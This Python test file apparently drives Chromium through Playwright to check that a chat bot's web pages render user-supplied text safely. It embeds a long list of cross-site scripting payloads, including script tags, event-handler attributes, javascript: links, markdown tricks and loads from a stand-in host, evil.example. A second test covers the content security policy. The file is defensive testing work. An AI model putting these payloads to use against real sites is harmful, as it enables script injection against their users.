"""The page in a real Chromium: what others write is never more than text."""

from __future__ import annotations

import asyncio
import io
from pathlib import Path

import pytest
from PIL import Image
from playwright.async_api import Browser, expect

from bot.messages import Button, Media, Piece
from bot.platforms.web import Banner
from tests.platforms.web_browser import visit

pytestmark = [pytest.mark.chromium, pytest.mark.asyncio(loop_scope="session")]

SCRIPTS = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "</textarea><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    '"><img src=x onerror=alert(1)>',
    "' onmouseover='alert(1)",
    '" autofocus onfocus="alert(1)',
    "<svg onload=alert(1)>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><script>alert&#40;1&#41;</script></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<iframe src=javascript:alert(1)>",
    '<iframe srcdoc="<script>alert(1)</script>">',
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)>",
    "<audio src=x onerror=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<object data=javascript:alert(1)>",
    "<embed src=javascript:alert(1)>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x.css';</style>",
    '<div style="background:url(//evil.example/x)">',
    "<form action=javascript:alert(1)><button>x</button></form>",
    "<a href=javascript:alert(1)>x</a>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt&colon;alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "![x](javascript:alert(1))",
    "![x](https://evil.example/canary.png)",
    '![x](https://evil.example/a.png"onerror="alert(1))',
    '[x](https://x.org"onmouseover="alert(1))',
    '<https://x.org/"onclick=alert(1)>',
    "```html\n<script>alert(1)</script>\n```",
    '```"><script>alert(1)</script>\nx\n```',
    "`<img src=x onerror=alert(1)>`",
    "|<img src=x onerror=alert(1)>|\n|-|\n|<svg onload=alert(1)>|",
    "# <script>alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;img src=x onerror=alert(1)&#62;",
    "<!--><script>alert(1)</script-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "\u2028<script>alert(1)</script>\u2029",
    "{{constructor.constructor('alert(1)')()}}",
    "javascript:alert(1)",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<template><img src=x onerror=alert(1)></template>",
    "<x/onpointerover=alert(1)>hover",
]


async def test_scripts_in_any_field_are_text(chromium: Browser, tmp_path: Path) -> None:
    """Everything that others can write, all at once: messages, titles in the list, answers, captions, buttons."""
    async with visit(
        chromium, tmp_path, server={"banner": Banner(simulated=True, variables=tuple(SCRIPTS))}
    ) as visitor:
        picture = await visitor.stage.files.keep(await asyncio.to_thread(one_pixel), "image/png")
        page = await visitor.open("/c/chat0")
        for n, script in enumerate(SCRIPTS):
            body = {"id": f"message-{n:04}", "text": script}
            send = "([n, body]) => fetch(`/api/chats/chat${n}/messages`, {method: 'POST', headers: {'Content-Type': "
            await page.evaluate(
                send + "'application/json'}, body: JSON.stringify(body)}).then((r) => r.status)", [n, body]
            )
            await page.evaluate(
                send + "'application/json'}, body: JSON.stringify(body)}).then((r) => r.status)", [0, body]
            )
            piece = visitor.web.layout(script)[0]
            media = Media(picture, "image/png", script)
            await visitor.web.send(
                visitor.stage.address("chat0"), Piece(piece.body, "", media, ((Button(script, script),),)), f"{n}.0.0.0"
            )
        await expect(page.locator(".bot")).to_have_count(len(SCRIPTS))
        await page.reload()
        await expect(page.locator(".bot")).to_have_count(len(SCRIPTS))
        await expect(page.locator("#chats a")).to_have_count(len(SCRIPTS))
        assert await page.locator(".person .body").all_text_contents() == SCRIPTS
        assert await page.locator(".bot .buttons button").all_text_contents() == SCRIPTS
        alts = await page.eval_on_selector_all(".bot figure img", "all => all.map((image) => image.alt)")
        assert alts == SCRIPTS
        strange = ".body :is(script, iframe, object, embed, svg, style, form, input, base, meta, link, video, audio):not(.icon)"
        assert await page.locator(strange).count() == 0
        assert (
            await page.evaluate(
                "[...document.querySelectorAll('*')].some(e => [...e.attributes].some(a => /^on/.test(a.name)))"
            )
            is False
        )
        for link in await page.locator(".body a[href]").all():
            assert str(await link.get_attribute("href")).startswith(("http", "mailto:", "/files/"))


def one_pixel() -> bytes:
    out = io.BytesIO()
    Image.new("RGB", (16, 16)).save(out, "PNG")
    return out.getvalue()


async def test_the_policy_itself_stops_what_would_slip_through(chromium: Browser, tmp_path: Path) -> None:
    """The second wall: even HTML that came in unescaped could run nothing and load nothing from elsewhere."""
    async with visit(chromium, tmp_path) as visitor:
        page = await visitor.open("/c/chat1")
        evil = "<img src=x onerror='window.hit=1'><img src='https://evil.example/x.png'><p style='color:red'>x</p>"
        await visitor.web.send(visitor.stage.address("chat1"), Piece(evil), "1.0.0.0")
        await expect(page.locator(".bot .body p")).to_have_text("x")
        await asyncio.sleep(0.2)
        assert await page.evaluate("window.hit") is None
        blocked = visitor.tabs[0].trouble
        assert any("inline event handler" in text for text in blocked) and any(
            "evil.example" in text for text in blocked
        )
        blocked.clear()
